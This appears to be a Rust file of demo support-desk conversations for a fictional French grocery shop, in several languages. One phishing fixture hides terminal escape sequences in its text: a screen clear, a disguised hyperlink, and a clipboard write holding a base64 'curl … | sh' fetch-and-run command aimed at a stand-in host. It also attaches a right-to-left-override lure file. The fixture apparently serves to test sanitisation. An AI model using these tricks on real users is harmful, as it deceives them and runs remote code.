//! What the demo customers and agents say.

use super::*;

// ---------------------------------------------------------------------------------------
// What they say.

/// A conversation's story: what the customer writes, what the shop answers, the notes
/// the agents leave. `{first}`, `{order}` and `{agent}` are filled in.
pub(super) struct Script {
    /// The email subject (other channels have none).
    pub(super) subject: &'static str,
    pub(super) turns: &'static [Turn],
    pub(super) labels: &'static [&'static str],
}

pub(super) enum Turn {
    /// From the customer.
    C(&'static str),
    /// From the customer, with a file.
    F(&'static str, File),
    /// The shop's reply.
    S(&'static str),
    /// An internal note.
    N(&'static str),
}

impl Turn {
    pub(super) fn text(&self) -> &'static str {
        match self {
            Turn::C(t) | Turn::F(t, _) | Turn::S(t) | Turn::N(t) => t,
        }
    }
}

#[derive(Clone, Copy)]
pub(super) enum File {
    Photo,
    List,
    Lure,
}

impl File {
    pub(super) fn attachment(self) -> InboundAttachment {
        let (name, mime, bytes): (&str, &str, &[u8]) = match self {
            File::Photo => (
                "IMG_20240312_181522.jpg",
                "image/jpeg",
                b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00demo\xff\xd9",
            ),
            File::List => (
                "besoins-mensuels.csv",
                "text/csv",
                "produit;quantité\nhuile d'olive 5 L;4\nsardines (carton de 24);2\nfleur de sel 1 kg;3\n"
                    .as_bytes(),
            ),
            // The classic disguise: the override makes "fdp.js" read "sj.pdf".
            File::Lure => (
                "Avis_de_passage\u{202e}fdp.js",
                "application/javascript",
                b"/* demo: a lure, not a real script */\n",
            ),
        };
        InboundAttachment {
            name: name.to_owned(),
            mime: mime.to_owned(),
            bytes: bytes.to_vec(),
        }
    }
}

pub(super) use Turn::{C, F, N, S};

pub(super) const PHISHING: &[Script] = &[Script {
    subject: "Votre colis est bloqué\u{1b}[2J — action requise",
    turns: &[
        F(
            "\u{feff}Bonjour,\n\nVotre colis n° 6A99887766 est bloqué dans notre entrepôt.\u{1b}[31m Des frais de réexpédition de 1,99 € sont requis.\u{1b}[0m\n\nRéglez-les ici : \u{1b}]8;;http://colis-frais.example/payer\u{7}https://www.laposte.fr/suivi\u{1b}]8;;\u{7}\n\n\u{1b}]52;c;Y3VybCBodHRwOi8vY29saXMtZnJhaXMuZXhhbXBsZS9zaCB8IHNo\u{7}Le service client",
            File::Lure,
        ),
        N(
            "Hameçonnage : le lien mène à colis-frais.example. Ne rien payer, ne pas ouvrir la pièce jointe. Le sujet contenait une séquence d'effacement d'écran, neutralisée à l'affichage.",
        ),
    ],
    labels: &["spam"],
}];

/// Nicolas runs a bistrot and buys for it.
pub(super) const PRO: &[Script] = &[
    Script {
        subject: "Tarifs professionnels ?",
        turns: &[
            C(
                "Bonjour,\n\nJe tiens le Bistrot du Port à Nantes et je cherche un fournisseur pour l'huile d'olive et les conserves de sardines. Proposez-vous des tarifs professionnels, et à partir de quelle quantité ?\n\nBien à vous,\n{first}",
            ),
            N("Client pro potentiel : lui proposer la grille grossiste."),
            S(
                "Bonjour {first},\n\nOui, nous avons une grille professionnelle à partir de 150 € HT par commande : –15 % sur l'huile d'olive en bidon de 5 L et –10 % sur les conserves par carton de 24.\n\nJe peux vous ouvrir un compte pro dès que vous m'envoyez votre SIRET.\n\n{agent} — La Petite Épicerie",
            ),
            F(
                "Merci ! Voici notre SIRET : 812 345 678 00021. Je vous joins la liste de ce dont nous aurions besoin chaque mois.\n\n{first}",
                File::List,
            ),
            S(
                "Compte pro ouvert. La première commande partira mardi, livraison mercredi matin avant le service.\n\n{agent}",
            ),
        ],
        labels: &["grossiste"],
    },
    Script {
        subject: "Livraison de mercredi incomplète",
        turns: &[
            C(
                "Bonjour,\n\nIl manque un carton de sardines à l'huile dans la livraison de ce matin (bon {order}). On en a besoin pour le service de vendredi.\n\n{first}",
            ),
            S(
                "Bonjour {first},\n\nDésolés : le carton est resté sur notre quai. Il part demain en express, vous l'aurez jeudi avant midi.\n\n{agent} — La Petite Épicerie",
            ),
            C("Parfait, merci.\n\n{first}"),
            S("Il est parti, suivi 6A55501234567.\n\n{agent}"),
        ],
        labels: &["grossiste", "livraison"],
    },
    Script {
        subject: "Facture d'octobre",
        turns: &[
            C(
                "Bonjour,\n\nNotre comptable me demande une facture récapitulative pour octobre, avec le détail HT / TVA. C'est possible ?\n\n{first}",
            ),
            S(
                "Bonjour {first},\n\nBien sûr, elle est générée et envoyée à l'adresse de facturation du compte pro.\n\n{agent} — La Petite Épicerie",
            ),
        ],
        labels: &["grossiste", "facture"],
    },
    Script {
        subject: "Ajout à la commande de la semaine",
        turns: &[
            C(
                "Bonjour,\n\nPouvez-vous ajouter 2 bidons d'huile d'olive et 1 kg de fleur de sel à la commande de cette semaine ({order}) ?\n\n{first}",
            ),
            N("Ajout fait sur {order} ; vérifier le stock de fleur de sel (3 kg restants)."),
            S("Bonjour {first},\n\nC'est ajouté, même livraison mercredi.\n\n{agent}"),
        ],
        labels: &["grossiste"],
    },
    Script {
        subject: "Truffes pour la carte d'hiver ?",
        turns: &[
            C(
                "Bonjour,\n\nNous préparons la carte d'hiver. Pourrez-vous fournir de la truffe noire fraîche en décembre, environ 300 g par semaine ? Et à quel prix ?\n\n{first}",
            ),
            S(
                "Bonjour {first},\n\nNotre trufficulteur du Vaucluse confirme la quantité ; le prix dépend du marché de Richerenches, autour de 900 €/kg l'an dernier. Je reviens vers vous avec un tarif ferme dès la première récolte.\n\n{agent} — La Petite Épicerie",
            ),
            C("Très bien, j'attends de vos nouvelles.\n\n{first}"),
            S("Je vous écris dès que j'ai le prix.\n\n{agent}"),
        ],
        labels: &["grossiste", "question produit"],
    },
];

/// Bruno's mail: his old mailbox is closing, which is why replies to him bounce.
pub(super) const BRUNO: &[Script] = &[Script {
    subject: "Confirmation de commande {order} jamais reçue",
    turns: &[
        C(
            "Bonjour,\n\nJ'ai commandé samedi (n° {order}) mais je n'ai reçu ni l'e-mail de confirmation ni le lien de suivi. Pouvez-vous me les renvoyer ?\n\nMerci,\nBruno Échec",
        ),
        C(
            "PS : je change de fournisseur d'accès ces jours-ci, mon adresse orange.example risque de ne plus marcher très longtemps. Si ma boîte fait des siennes, je repasse par le chat.\n\nBruno",
        ),
        S(
            "Bonjour Bruno,\n\nVotre commande {order} est bien partie ; voici le suivi : 6A98765432109.\n\n{agent} — La Petite Épicerie",
        ),
    ],
    labels: &["livraison"],
}];

pub(super) const FR_EMAIL: &[Script] = &[
    Script {
        subject: "Commande {order} toujours pas reçue",
        turns: &[
            C(
                "Bonjour,\n\nJ'ai passé commande il y a dix jours (n° {order}) et je n'ai toujours rien reçu. Le suivi Colissimo indique « en cours d'acheminement » depuis six jours.\n\nPouvez-vous vérifier ?\n\nMerci d'avance,\n{first}",
            ),
            N(
                "Colissimo confirme : colis bloqué au centre de tri de Lyon. Réclamation ouverte (n° 8L0945).",
            ),
            S(
                "Bonjour {first},\n\nMerci pour votre message, et désolée pour l'attente. Votre colis est bloqué au centre de tri de Lyon ; nous avons ouvert une réclamation auprès de Colissimo.\n\nS'il n'a pas bougé d'ici vendredi, nous vous renvoyons la commande à nos frais.\n\nBelle journée,\n{agent} — La Petite Épicerie",
            ),
            C(
                "Bonjour,\n\nBonne nouvelle : le colis est arrivé ce matin, tout est en bon état. Merci pour le suivi !\n\n{first}",
            ),
            S("Parfait, merci de nous avoir prévenus ! Bonne dégustation.\n\n{agent}"),
        ],
        labels: &["livraison"],
    },
    Script {
        subject: "Pot de confiture cassé à la livraison",
        turns: &[
            F(
                "Bonjour,\n\nJ'ai reçu ma commande {order} hier mais le pot de confiture figue-noix était cassé, le carton est tout collant. Je vous joins une photo.\n\nQue peut-on faire ?\n\nCordialement,\n{first}",
                File::Photo,
            ),
            S(
                "Bonjour {first},\n\nToutes nos excuses ! Merci pour la photo. Nous vous renvoyons un pot dès demain, sans frais ; inutile de nous retourner l'autre.\n\n{agent} — La Petite Épicerie",
            ),
            C("Super, merci beaucoup pour la réactivité !\n\n{first}"),
            S("Avec plaisir. Le nouveau pot part aujourd'hui, bien calé cette fois 🙂\n\n{agent}"),
        ],
        labels: &["casse", "remboursement"],
    },
    Script {
        subject: "Facture pour ma commande {order}",
        turns: &[
            C(
                "Bonjour,\n\nPourriez-vous m'envoyer une facture au nom de mon entreprise (Atelier Lumière, 12 rue des Tanneurs, 67000 Strasbourg) pour la commande {order} ?\n\nMerci,\n{first}",
            ),
            S(
                "Bonjour {first},\n\nJe viens de l'émettre au nom d'Atelier Lumière depuis notre logiciel de facturation ; vous la recevrez dans quelques minutes. N'hésitez pas si une mention manque.\n\n{agent} — La Petite Épicerie",
            ),
            C("Reçue, c'est parfait. Merci !\n\n{first}"),
        ],
        labels: &["facture"],
    },
    Script {
        subject: "Produit périmé dans ma commande {order}",
        turns: &[
            C(
                "Bonjour,\n\nDans ma commande {order}, le paquet de sablés au beurre a une date de durabilité minimale dépassée depuis une semaine (02/11). Ce n'est pas bien grave mais je préférais vous le signaler.\n\nCordialement,\n{first}",
            ),
            N("Lot de sablés 2410 : vérifier le rayon, retirer les paquets au 02/11."),
            S(
                "Bonjour {first},\n\nMerci de nous l'avoir signalé, et toutes nos excuses : un carton ancien s'est glissé dans le stock. Nous vous remboursons le paquet (4,20 €) et un paquet frais part avec votre prochaine commande.\n\n{agent} — La Petite Épicerie",
            ),
            C("Merci, c'est très correct.\n\n{first}"),
            S("Merci à vous, bonne journée !\n\n{agent}"),
        ],
        labels: &["qualité", "remboursement"],
    },
    Script {
        subject: "Allergènes : biscuits aux amandes",
        turns: &[
            C(
                "Bonjour,\n\nMon fils est allergique à l'arachide. Les biscuits aux amandes de la biscuiterie Poupart sont-ils fabriqués dans un atelier qui utilise aussi de l'arachide ?\n\nMerci,\n{first}",
            ),
            S(
                "Bonjour {first},\n\nJ'ai posé la question directement à la biscuiterie : leur atelier n'utilise pas d'arachide, mais il traite d'autres fruits à coque (noisettes, noix). L'étiquette porte la mention « traces possibles de fruits à coque ».\n\n{agent} — La Petite Épicerie",
            ),
            C("Merci beaucoup pour cette réponse précise, c'est rassurant.\n\n{first}"),
            S("Avec plaisir ! Bonne journée à vous.\n\n{agent}"),
        ],
        labels: &["question produit"],
    },
    Script {
        subject: "Erreur d'adresse sur la commande {order}",
        turns: &[
            C(
                "Bonjour,\n\nJe viens de commander (n° {order}) mais l'adresse est fausse : c'est au 14 et non au 41 avenue Jean-Jaurès. Est-il encore temps de corriger ?\n\n{first}",
            ),
            S(
                "Bonjour {first},\n\nC'est corrigé : le colis n'était pas encore parti. Il sera livré au 14 avenue Jean-Jaurès.\n\n{agent} — La Petite Épicerie",
            ),
        ],
        labels: &["livraison"],
    },
    Script {
        subject: "Coffret cadeau pour un anniversaire",
        turns: &[
            C(
                "Bonjour,\n\nJe voudrais offrir le coffret « Apéro provençal » à ma mère pour ses 70 ans, le 14. Peut-on ajouter un petit mot et ne pas mettre la facture dans le colis ?\n\nMerci !\n{first}",
            ),
            S(
                "Bonjour {first},\n\nBien sûr : indiquez-moi le texte du mot et nous l'écrirons à la main sur une carte. La facture vous sera envoyée par e-mail uniquement.\n\n{agent} — La Petite Épicerie",
            ),
            C(
                "Merci ! Le mot : « Joyeux anniversaire Maman, 70 ans et toujours aussi gourmande ! Bises, {first} »",
            ),
            N("Carte manuscrite à préparer — colis {order}, pas de facture dans le carton."),
            S(
                "C'est noté, la carte sera glissée dans le coffret. Livraison prévue le 12.\n\n{agent}",
            ),
        ],
        labels: &["cadeau"],
    },
    Script {
        subject: "Remboursement non reçu",
        turns: &[
            C(
                "Bonjour,\n\nVous m'aviez confirmé il y a deux semaines le remboursement de l'huile de noix en rupture (commande {order}), mais je ne vois rien sur mon compte.\n\nCordialement,\n{first}",
            ),
            N(
                "Remboursement fait le 3 via Stripe (re_3P8x…), 14,90 €. Délai bancaire 5 à 10 jours.",
            ),
            S(
                "Bonjour {first},\n\nLe remboursement de 14,90 € a bien été émis le 3 ; selon les banques, il apparaît sous 5 à 10 jours ouvrés. Si vous ne voyez rien lundi, je relance notre prestataire de paiement.\n\n{agent} — La Petite Épicerie",
            ),
            C("D'accord, je surveille. Merci.\n\n{first}"),
            S("Je reste disponible si besoin.\n\n{agent}"),
        ],
        labels: &["remboursement"],
    },
    Script {
        subject: "Suspendre le panier du mois en août",
        turns: &[
            C(
                "Bonjour,\n\nJ'ai un abonnement au panier du mois. Est-il possible de suspendre l'envoi en août ? Nous serons en vacances.\n\n{first}",
            ),
            S(
                "Bonjour {first},\n\nC'est fait : pas de panier en août, reprise automatique en septembre. Bonnes vacances !\n\n{agent} — La Petite Épicerie",
            ),
        ],
        labels: &["abonnement"],
    },
    Script {
        subject: "Origine du miel de lavande",
        turns: &[
            C(
                "Bonjour,\n\nVotre miel de lavande vient-il vraiment de Provence ? Sur l'étiquette je lis « mélange de miels originaires et non originaires de l'UE »…\n\n{first}",
            ),
            S(
                "Bonjour {first},\n\nBonne remarque : l'étiquette du lot 2403 était erronée. Notre miel de lavande vient d'un apiculteur de Valensole (04) ; l'étiquette corrigée arrive la semaine prochaine.\n\n{agent} — La Petite Épicerie",
            ),
            C("Merci pour la transparence !\n\n{first}"),
            S("Merci à vous d'avoir signalé l'erreur.\n\n{agent}"),
        ],
        labels: &["question produit"],
    },
];

pub(super) const FR_MESSAGE: &[Script] = &[
    Script {
        subject: "",
        turns: &[
            C("Bonjour, vous êtes ouverts le dimanche matin ?"),
            S("Bonjour ! Oui, la boutique est ouverte le dimanche de 9 h à 13 h."),
            C("Super merci 👍"),
            S("Avec plaisir, à dimanche !"),
        ],
        labels: &["boutique"],
    },
    Script {
        subject: "",
        turns: &[
            C(
                "Bonjour, j'ai commandé en click & collect ce matin, je peux passer à quelle heure ?",
            ),
            S("Bonjour {first} ! Votre commande sera prête à partir de 15 h."),
            C("Parfait, je passe vers 17 h"),
            S("On vous attend 🙂"),
        ],
        labels: &["click & collect"],
    },
    Script {
        subject: "",
        turns: &[
            C("Est-ce que vous avez encore du comté 24 mois ?"),
            S("Oui, il nous en reste ! Vous le voulez à la coupe ou sous vide ?"),
            C("Sous vide, 500 g svp. Je peux le récupérer demain ?"),
            N("500 g de comté 24 mois mis de côté au nom de {first}, sous le comptoir."),
            S("C'est mis de côté à votre nom, jusqu'à samedi."),
        ],
        labels: &["stock"],
    },
    Script {
        subject: "",
        turns: &[
            C("Bonjour, le code BIENVENUE10 ne marche pas sur mon panier 😕"),
            S(
                "Bonjour {first}, le code s'applique à partir de 30 € d'achat et votre panier est à 27,50 €. Je peux vous faire un code valable dès maintenant si vous voulez.",
            ),
            C("Ah d'accord ! Oui je veux bien"),
            S("Voici : BIENVENUE-{order}. Valable 48 h 🙂"),
        ],
        labels: &["code promo"],
    },
    Script {
        subject: "",
        turns: &[
            C(
                "Salut ! Si je commande aujourd'hui, je reçois avant samedi ? C'est pour un anniversaire 🎂",
            ),
            S(
                "Bonjour ! Avec la livraison express commandée avant 14 h, oui, vous recevez vendredi.",
            ),
            C("Top, je commande tout de suite"),
            C("C'est fait, commande {order}"),
            S("Bien reçue, elle part cet après-midi en express 🚚"),
        ],
        labels: &["livraison"],
    },
    Script {
        subject: "",
        turns: &[
            F(
                "Bonjour, mon colis est arrivé tout écrasé, voici une photo",
                File::Photo,
            ),
            S(
                "Oh non, désolés {first} ! Est-ce que les produits sont abîmés ou seulement le carton ?",
            ),
            C("Juste le carton, tout est intact heureusement"),
            S("Ouf ! Merci d'avoir pris le temps de nous prévenir, on le signale au transporteur."),
        ],
        labels: &["casse"],
    },
    Script {
        subject: "",
        turns: &[
            C("Vous avez des pâtes sans gluten ?"),
            S(
                "Oui : les fusilli de lentilles corail et les spaghetti de riz complet, au rayon « Épicerie salée ».",
            ),
            C("Merci, je vais regarder 🙏"),
        ],
        labels: &["question produit"],
    },
    Script {
        subject: "",
        turns: &[
            C("Bonsoir, est-ce qu'on peut acheter une carte cadeau en ligne ?"),
            S(
                "Bonsoir {first} ! Oui, de 20 € à 150 €, envoyée par e-mail ou à imprimer. Elle est dans le menu « Idées cadeaux ».",
            ),
            C("Merci beaucoup, bonne soirée"),
            S("Bonne soirée à vous !"),
        ],
        labels: &["cadeau"],
    },
    Script {
        subject: "",
        turns: &[
            C(
                "Bonjour, je voudrais retourner un moulin à poivre, il ne me plaît pas finalement. Comment faire ?",
            ),
            S(
                "Bonjour {first}, vous avez 14 jours : je vous envoie une étiquette de retour gratuite par e-mail.",
            ),
            C("Merci, je l'ai bien reçue"),
            S("Parfait, le remboursement partira dès réception du moulin."),
        ],
        labels: &["retour"],
    },
    Script {
        subject: "",
        turns: &[
            C("Coucou, ma commande {order} est partie ?"),
            S("Bonjour {first} ! Oui, expédiée hier, numéro de suivi : 6A12345678901."),
            C("Merci !! ❤️"),
        ],
        labels: &["livraison"],
    },
];

pub(super) const EN_EMAIL: &[Script] = &[
    Script {
        subject: "Shipping to the UK?",
        turns: &[
            C(
                "Hello,\n\nDo you ship to the UK, and if so, what about customs fees since Brexit? I'd love to order the olive oil and the tapenade.\n\nKind regards,\n{first}",
            ),
            S(
                "Hello {first},\n\nYes, we ship to the UK with DHL. For orders under £135 the VAT is collected at checkout, so there is nothing more to pay on delivery.\n\nBest wishes,\n{agent} — La Petite Épicerie",
            ),
            C("Brilliant, thank you! Order placed ({order}).\n\n{first}"),
            S("Thank you! It ships tomorrow morning.\n\n{agent}"),
        ],
        labels: &["international"],
    },
    Script {
        subject: "Wrong item in my order {order}",
        turns: &[
            C(
                "Hi,\n\nI ordered lavender honey but received chestnut honey. Not a disaster (it's lovely!) but I wanted the lavender one for a gift.\n\nThanks,\n{first}",
            ),
            S(
                "Hi {first},\n\nSo sorry about the mix-up! We're sending the lavender honey today; please keep the chestnut one with our compliments.\n\n{agent} — La Petite Épicerie",
            ),
            C("That's very kind, thank you so much 😊\n\n{first}"),
        ],
        labels: &["erreur de préparation"],
    },
    Script {
        subject: "Corporate gifts for 25 people",
        turns: &[
            C(
                "Hello,\n\nWe'd like to send a small hamper to each of our 25 employees before the holidays, to three different addresses. Could you quote for the \"Apéro provençal\" box?\n\nBest,\n{first}",
            ),
            N("25 coffrets : vérifier le stock de tapenade avant de confirmer."),
            S(
                "Hello {first},\n\nHappy to help! For 25 boxes we can offer 12% off (€37.80 each instead of €42.95), shipping to three addresses included. I'll send a formal quote today.\n\n{agent} — La Petite Épicerie",
            ),
            C("Perfect, please go ahead. Our PO number is 4500123987.\n\n{first}"),
            S("Thank you! The boxes will ship on Monday.\n\n{agent}"),
        ],
        labels: &["cadeau", "grossiste"],
    },
    Script {
        subject: "Can't log in to my account",
        turns: &[
            C(
                "Hi,\n\nThe password reset link says it has expired every time I click it, even straight away. Can you help?\n\n{first}",
            ),
            S(
                "Hi {first},\n\nSorry about that: some mail apps open links in a preview first, which uses them up. I've sent a fresh link; try opening it from a browser directly.\n\n{agent} — La Petite Épicerie",
            ),
            C("That worked, thanks!\n\n{first}"),
        ],
        labels: &["compte"],
    },
];

pub(super) const EN_MESSAGE: &[Script] = &[
    Script {
        subject: "",
        turns: &[
            C("Hi! Is the truffle salt still in stock? The page says 'back soon'"),
            S("Hi {first}! It's back on Thursday, I can put one aside for you."),
            C("Yes please!"),
            S("Done ✅"),
        ],
        labels: &["stock"],
    },
    Script {
        subject: "",
        turns: &[
            C("hello, do you have vegan options in the aperitif boxes?"),
            S(
                "Hello {first}! Yes, the « Apéro du potager » box is fully vegan: tapenade, crackers, marinated veggies.",
            ),
            C("perfect thanks"),
        ],
        labels: &["question produit"],
    },
    Script {
        subject: "",
        turns: &[
            C(
                "Loved the chestnut honey I bought at your shop in Arles last summer. Do you ship to Canada? 🍯",
            ),
            S("Hi {first}, thank you! Yes, we ship to Canada, 8 to 12 days with La Poste."),
            C("Amazing, ordering now!"),
            S("Enjoy! 🇫🇷"),
        ],
        labels: &["international"],
    },
];

pub(super) const DE_EMAIL: &[Script] = &[
    Script {
        subject: "Lieferung nach Deutschland",
        turns: &[
            C(
                "Guten Tag,\n\nich habe am Montag bestellt (Bestellnummer {order}). Wie lange dauert der Versand nach Freiburg ungefähr? Und gibt es eine Sendungsverfolgung?\n\nMit freundlichen Grüßen\n{first}",
            ),
            S(
                "Guten Tag {first},\n\nder Versand nach Deutschland dauert 3 bis 5 Werktage. Ihre Sendungsnummer lautet 00340434161094012345 (DHL).\n\nViele Grüße\n{agent} — La Petite Épicerie",
            ),
            C("Vielen Dank für die schnelle Antwort!\n\n{first}"),
            S("Gern geschehen! 🙂\n\n{agent}"),
        ],
        labels: &["international"],
    },
    Script {
        subject: "Rechnung mit USt-IdNr.",
        turns: &[
            C(
                "Hallo,\n\nkönnten Sie mir bitte eine Rechnung mit unserer USt-IdNr. DE123456789 ausstellen? Bestellung {order}.\n\nDanke und Grüße\n{first}",
            ),
            S(
                "Hallo {first},\n\ndie korrigierte Rechnung mit Ihrer USt-IdNr. ist per E-Mail unterwegs.\n\nBeste Grüße\n{agent} — La Petite Épicerie",
            ),
            C("Super, angekommen. Danke!\n\n{first}"),
        ],
        labels: &["facture"],
    },
];

pub(super) const DE_MESSAGE: &[Script] = &[
    Script {
        subject: "",
        turns: &[
            C("Hallo! Habt ihr noch den Lavendelhonig? 🍯"),
            S("Hallo {first}! Ja, 250 g und 500 g sind auf Lager."),
            C("Super, danke!"),
        ],
        labels: &["stock"],
    },
    Script {
        subject: "",
        turns: &[
            C("Guten Tag, sind die Kekse glutenfrei?"),
            S(
                "Hallo {first}, leider nicht: sie enthalten Weizenmehl. Glutenfrei sind unsere Madeleines aus Reismehl.",
            ),
            C("Danke für die Info!"),
            S("Gerne!"),
        ],
        labels: &["question produit"],
    },
];

pub(super) const ES_EMAIL: &[Script] = &[
    Script {
        subject: "Pedido {order} dañado",
        turns: &[
            F(
                "Hola:\n\nHe recibido el pedido {order} y una de las latas de sardinas llegó abollada. Adjunto una foto.\n\nUn saludo,\n{first}",
                File::Photo,
            ),
            S(
                "Hola, {first}:\n\n¡Lo sentimos mucho! Le enviamos otra lata hoy mismo, sin coste.\n\nUn saludo,\n{agent} — La Petite Épicerie",
            ),
            C("¡Muchas gracias por la rapidez!\n\n{first}"),
        ],
        labels: &["casse"],
    },
    Script {
        subject: "Pregunta sobre el aceite de oliva",
        turns: &[
            C(
                "Hola:\n\n¿El aceite de oliva de Nyons es de primera presión en frío? Lo quiero para regalar.\n\nGracias,\n{first}",
            ),
            S(
                "Hola, {first}:\n\nSí, es virgen extra de primera presión en frío, AOP Nyons. Podemos envolverlo para regalo sin coste.\n\n{agent} — La Petite Épicerie",
            ),
            C("¡Perfecto! Lo pido con envoltorio entonces.\n\n{first}"),
            S("¡Hecho! 🎁\n\n{agent}"),
        ],
        labels: &["question produit"],
    },
];

pub(super) const ES_MESSAGE: &[Script] = &[
    Script {
        subject: "",
        turns: &[
            C("Hola, ¿hacéis envíos a Barcelona?"),
            S("¡Hola {first}! Sí, enviamos a toda España en 3-4 días laborables."),
            C("Genial, gracias 😊"),
        ],
        labels: &["international"],
    },
    Script {
        subject: "",
        turns: &[
            C("Buenas, ¿mi pedido {order} ya salió?"),
            S("¡Hola {first}! Sí, salió ayer con Correos Express. Llega el jueves."),
            C("¡Gracias!"),
            S("¡A usted!"),
        ],
        labels: &["livraison"],
    },
];

pub(super) const JA_EMAIL: &[Script] = &[
    Script {
        subject: "注文した商品について",
        turns: &[
            C(
                "はじめまして。\n\n先週注文した商品（注文番号 {order}）がまだ届いていません。配送状況を教えていただけますか。\n\nよろしくお願いいたします。\n{first}",
            ),
            S(
                "Hello {first},\n\nThank you for your message. Your parcel has been with Japan Post since Monday; tracking number EE123456789FR. It should arrive within 3 days.\n\nBest regards,\n{agent} — La Petite Épicerie",
            ),
            C("ご連絡ありがとうございます。届くのを楽しみにしています！🙏\n\n{first}"),
            S("🙏\n\n{agent}"),
        ],
        labels: &["international", "livraison"],
    },
    Script {
        subject: "ギフト包装はできますか",
        turns: &[
            C(
                "こんにちは。\n\nラベンダーはちみつを3つ注文したいのですが、それぞれギフト包装していただくことは可能でしょうか。\n\n{first}",
            ),
            S(
                "Hello {first},\n\nYes, gift wrapping is free: just tick « emballage cadeau » at checkout and we wrap each jar separately.\n\n{agent} — La Petite Épicerie",
            ),
            C("ありがとうございます。さっそく注文しました。\n\n{first}"),
        ],
        labels: &["cadeau"],
    },
];

pub(super) const JA_MESSAGE: &[Script] = &[
    Script {
        subject: "",
        turns: &[
            C("こんにちは！日本への発送はできますか？"),
            S("Hello {first}! Yes, we ship to Japan (7–10 days). 日本への発送も可能です 🙂"),
            C("ありがとうございます！注文します。"),
        ],
        labels: &["international"],
    },
    Script {
        subject: "",
        turns: &[
            C("すみません、トリュフ塩の賞味期限はどのくらいですか？"),
            S("Hello {first}! The truffle salt keeps for 2 years, unopened. 賞味期限は約2年です。"),
            C("了解です。ありがとうございました！"),
        ],
        labels: &["question produit"],
    },
];

pub(super) const ZH_EMAIL: &[Script] = &[Script {
    subject: "关于订单 {order}",
    turns: &[
        C(
            "您好，\n\n我的订单 {order} 显示已发货，但是快递单号查不到信息。请帮忙确认一下。\n\n谢谢！\n{first}",
        ),
        S(
            "Hello {first},\n\nThe tracking number becomes active once the parcel is scanned at the airport; it should show up within 48 hours. Sorry for the worry!\n\n{agent} — La Petite Épicerie",
        ),
        C("明白了，谢谢您的解释。\n\n{first}"),
    ],
    labels: &["international"],
}];

pub(super) const ZH_MESSAGE: &[Script] = &[
    Script {
        subject: "",
        turns: &[
            C("你好！请问你们的薰衣草蜂蜜可以寄到上海吗？"),
            S("Hello {first}! Yes, we ship to China with La Poste, about 10 days. 可以寄到上海 🙂"),
            C("太好了，谢谢！我现在就下单。"),
        ],
        labels: &["international"],
    },
    Script {
        subject: "",
        turns: &[
            C("请问栗子蜂蜜还有货吗？网站上显示缺货。"),
            S("Hello {first}! It's back next week. 下周到货，我可以给您留一瓶。"),
            C("好的，麻烦您了！"),
            S("不客气！"),
        ],
        labels: &["stock"],
    },
];

pub(super) const AR_EMAIL: &[Script] = &[Script {
    subject: "طلب رقم {order}",
    turns: &[
        C(
            "السلام عليكم،\n\nوصلني الطلب رقم {order} ولكن تنقصه علبة الشاي بالنعناع. أرجو التحقق.\n\nمع الشكر،\n{first}",
        ),
        S(
            "Bonjour {first},\n\nToutes nos excuses : la boîte de thé à la menthe a été oubliée. Elle part aujourd'hui.\n\n{agent} — La Petite Épicerie",
        ),
        C("شكرا على سرعة الرد 🌸\n\n{first}"),
    ],
    labels: &["erreur de préparation"],
}];

pub(super) const AR_MESSAGE: &[Script] = &[
    Script {
        subject: "",
        turns: &[
            C("مرحبا، هل لديكم زيت زيتون عضوي؟"),
            S(
                "Bonjour {first} ! Oui, l'huile d'olive bio de Nyons, 50 cl ou 1 L. نعم، لدينا زيت زيتون عضوي 🙂",
            ),
            C("شكرا جزيلا! سأطلب لترا واحدا."),
            S("Avec plaisir ! شكرا لك"),
        ],
        labels: &["question produit"],
    },
    Script {
        subject: "",
        turns: &[
            C("مساء الخير، متى يصل طلبي {order}؟"),
            S("Bonsoir {first} ! Il arrive demain avant 13 h. يصل غدا قبل الساعة الواحدة."),
            C("ممتاز، شكرا!"),
        ],
        labels: &["livraison"],
    },
];

pub(super) const HE_EMAIL: &[Script] = &[
    Script {
        subject: "שאלה על מוצר",
        turns: &[
            C("שלום,\n\nהאם הריבה של תאנים ואגוזים כשרה? יש עליה תעודת כשרות?\n\nתודה,\n{first}"),
            S(
                "Hello {first},\n\nThe jam itself only contains figs, walnuts and sugar, but it has no kosher certification, sorry.\n\n{agent} — La Petite Épicerie",
            ),
            C("תודה על התשובה המהירה.\n\n{first}"),
        ],
        labels: &["question produit"],
    },
    Script {
        subject: "ההזמנה {order} עדיין לא הגיעה",
        turns: &[
            C(
                "שלום,\n\nהזמנתי לפני שבועיים (הזמנה {order}) והחבילה עדיין לא הגיעה. אפשר לבדוק בבקשה?\n\nתודה רבה,\n{first}",
            ),
            S(
                "Hello {first},\n\nYour parcel reached Israel Post on Tuesday; customs clearance usually takes 3 to 5 days. Tracking: LX123456789FR.\n\n{agent} — La Petite Épicerie",
            ),
            C("תודה! אחכה בסבלנות.\n\n{first}"),
        ],
        labels: &["international", "livraison"],
    },
];

pub(super) const HE_MESSAGE: &[Script] = &[Script {
    subject: "",
    turns: &[
        C("שלום, האם אפשר לשלוח לתל אביב?"),
        S("Hello {first}! Yes, we ship to Israel, about 8 days. כן, אנחנו שולחים לישראל 🙂"),
        C("מעולה, תודה רבה!"),
    ],
    labels: &["international"],
}];
